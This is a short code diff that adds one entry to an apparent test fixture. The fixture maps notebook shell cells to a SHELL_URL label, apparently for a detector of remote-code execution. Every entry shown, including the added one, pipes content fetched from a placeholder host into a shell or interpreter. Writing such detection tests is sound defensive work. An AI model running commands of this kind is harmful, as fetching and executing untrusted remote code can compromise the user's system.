@@ -237,6 +237,7 @@ CELLS = {
     "!curl https://e.example | timeout 60 bash -e": SHELL_URL,
     "!curl https://e.example |& sh": SHELL_URL,
     "!curl https://e.example | xargs -I{} sh -c '{}'": SHELL_URL,
+    "!curl https://e.example | bash -o pipefail": SHELL_URL,
     "!/usr/bin/curl https://e.example | /usr/bin/env bash": SHELL_URL,
     "!lynx -source https://e.example | sh": SHELL_URL,
     "!http GET https://e.example | python3": SHELL_URL,
